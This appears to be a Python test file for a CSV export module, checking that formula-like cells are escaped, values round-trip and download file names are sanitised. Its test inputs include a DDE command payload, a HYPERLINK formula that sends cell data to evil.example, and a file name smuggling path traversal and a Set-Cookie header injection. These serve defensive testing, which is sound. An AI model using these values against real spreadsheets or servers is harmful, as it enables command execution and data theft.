"""CSV files: read back as they were written, except that no cell is a formula."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import csv_files


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "\uff1d1",
        "\uff20x",
        "-",
        "\u00a0=1",
    ],
)
def test_text_that_begins_like_a_formula_is_made_text(text: str) -> None:
    assert csv_files.cell(text).lstrip('"').startswith("'")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        ("", ""),
        (-5, "-5"),
        (-0.5, "-0.5"),
        (True, "true"),
        (date(2026, 11, 26), "2026-11-26"),
        (datetime(2026, 11, 26, 4, 5, 6, 7000, tzinfo=UTC), "2026-11-26T04:05:06.007Z"),
        ("plain, with comma", '"plain, with comma"'),
        ('say "so"', '"say ""so"""'),
        ("two\nlines", '"two\nlines"'),
        ("a=b", "a=b"),
        ("it's", "it's"),
        ("Ünïcödé 🎮", "Ünïcödé 🎮"),
    ],
)
def test_other_values_stay_what_they_are(value: csv_files.Cell, written: str) -> None:
    assert csv_files.cell(value) == written


@given(
    st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=4), max_size=5)
)
def test_what_is_written_is_read_back(rows: list[list[str]]) -> None:
    answered = csv_files.answer("x.csv", ["head"], rows)
    read = list(csv.reader(io.StringIO(answered.getvalue().decode(), newline=""), strict=True))
    assert read[0] == ["head"]
    assert len(read) == 1 + len(rows)
    for row, back in zip(rows, read[1:], strict=True):
        if row == [""]:  # an empty line
            assert back in ([], [""])
            continue
        assert [one.removeprefix("'") for one in back] == [one.removeprefix("'") for one in row]
        assert not any(one[:1] in ("=", "+", "-", "@", "\t", "\r") for one in back if one)


def test_a_large_file_goes_out_in_pieces() -> None:
    asked = []

    def rows() -> object:
        for number in range(1000):
            asked.append(number)
            yield [number]

    pieces = iter(csv_files.answer("x.csv", ["n"], rows()))  # type: ignore[arg-type]
    next(pieces)
    assert len(asked) < 1000
    assert b"".join(pieces).endswith(b"999\r\n")


@pytest.mark.parametrize(
    ("parts", "name"),
    [
        (("audit", "North Light", "2026-11-26"), "audit-north-light-2026-11-26.csv"),
        (("audit", '../..\\"; x=\r\nSet-Cookie: a', "1"), "audit-x-set-cookie-a-1.csv"),
        (("audit", "日本", "1"), "audit-1.csv"),
        (("", "  "), "file.csv"),
        (("a" * 300,), "a" * 60 + ".csv"),
    ],
)
def test_a_files_name_is_plain(parts: tuple[str, ...], name: str) -> None:
    assert csv_files.file_name(*parts) == name
    assert csv_files.answer(name, [], [])["Content-Disposition"] == f'attachment; filename="{name}"'
